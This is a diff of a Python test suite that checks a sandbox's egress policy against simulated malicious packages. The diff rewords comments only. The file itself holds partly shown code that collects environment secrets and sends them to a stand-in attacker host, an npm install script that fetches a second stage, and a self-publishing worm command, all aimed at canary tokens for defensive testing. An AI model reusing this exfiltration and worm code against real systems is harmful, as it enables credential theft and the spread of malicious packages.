@@ -1,8 +1,9 @@
 # SPDX-License-Identifier: Apache-2.0
 """
-Rows 141 to 143: packages that gather what they find and send it home, in ways that were used: a file that Python runs at its start, a
-script that npm runs at an installation and that fetches a second one and removes itself, and a worm that publishes itself. They are
-harmless here: what they would send are canaries. Each gets through to a host that the policy names, which is the control.
+Rows 141 to 143: malicious packages that collect data and send it out, by known methods: a file that
+Python runs at start, an npm install script that fetches a second one and deletes itself, and a worm
+that publishes itself. They are harmless here: the data are canaries. Each succeeds with a host that
+the policy names, which is the control.
 """
 
 import base64
@@ -17,7 +18,7 @@ from sandbox import hutch
 
 SECRET = "canary-4be1a0f6c2d9"
 EVIL = "evil.canary.test"
-# What litellm 1.82.8 did, at every start of Python.
+# The behaviour of litellm 1.82.8 at every start of Python.
 GATHER = """
 import base64, glob, json, os, urllib.request
 found = dict(os.environ)
@@ -45,7 +46,7 @@ https.get('https://HOST/stage2', r => r.resume()).on('error', e => console.error
 
 class Packages(EgressCase):
     def got(self):
-        """What the web has been told, in a request for /got."""
+        """Returns the data that the web server received in requests for /got."""
         return [json.loads(base64.urlsafe_b64decode(r["path"].partition("?")[2])) for r in WORLD("web")["requests"] if r["path"].startswith("/got?")]
 
     def plant(self, box, path, text):
@@ -53,7 +54,7 @@ class Packages(EgressCase):
         self.assertEqual(r.code, 0, r)
 
     def test_gathered_at_the_start_of_python(self):
-        """It finds what is in the sandbox, and nothing of who made it; nobody hears of it."""
+        """It finds the sandbox's data and none of the caller's; no server receives it."""
         secrets = {"AWS_SECRET_ACCESS_KEY": SECRET, "NPM_TOKEN": SECRET, "GITHUB_TOKEN": SECRET}
         os.environ.update(secrets)
         self.addCleanup(lambda: [os.environ.pop(name) for name in secrets])
@@ -66,7 +67,7 @@ class Packages(EgressCase):
         self.assertEqual(r.out.split(), [EVIL, "URLError", "other.hutch.test", "URLError", "93.184.217.67", "URLError", "program"], r)
         self.logged(box, name=EVIL, verdict="denied")
         self.assertEqual(self.got(), [])
-        # The control: it does gather, and a host that is allowed is a way out.
+        # The control: it does collect, and an allowed host is a way out.
         self.plant(box, f"{site}/gather.py", f"HOSTS = ['web.hutch.test']\n{GATHER}")
         run(box, "python3", "-c", "pass")
         [found] = self.got()
@@ -75,7 +76,8 @@ class Packages(EgressCase):
         self.assertNotIn(SECRET, json.dumps(found))
 
     def test_run_at_an_installation(self):
-        """Its second stage does not come; what ran is in the audit log, though the file is gone."""
+        """Its second stage never arrives. The audit log shows what ran, though the file is
+        deleted."""
         box = self.box(["web.hutch.test"])
         for host, code in ((EVIL, "ENOTFOUND"), ("web.hutch.test", "")):
             with tempfile.TemporaryDirectory() as top:
@@ -101,7 +103,8 @@ class Packages(EgressCase):
         self.logged(box, name=EVIL, verdict="denied")
 
     def test_a_worm(self):
-        """It has a token of its own, of the attacker's: there is no host to publish at, and none of the sandbox's owner's to be found."""
+        """The worm has the attacker's token: no registry is reachable, and it finds no token of
+        the sandbox's owner."""
         box = self.box(["web.hutch.test"])
         publish = "cd /tmp && mkdir -p worm && cd worm && echo '{{\"name\": \"worm\", \"version\": \"1.0.0\"}}' >package.json && " \
                   "npm publish --registry https://{0}/npm/ --//{0}/npm/:_authToken=attackers --fetch-retries=0 --loglevel=error 2>&1"
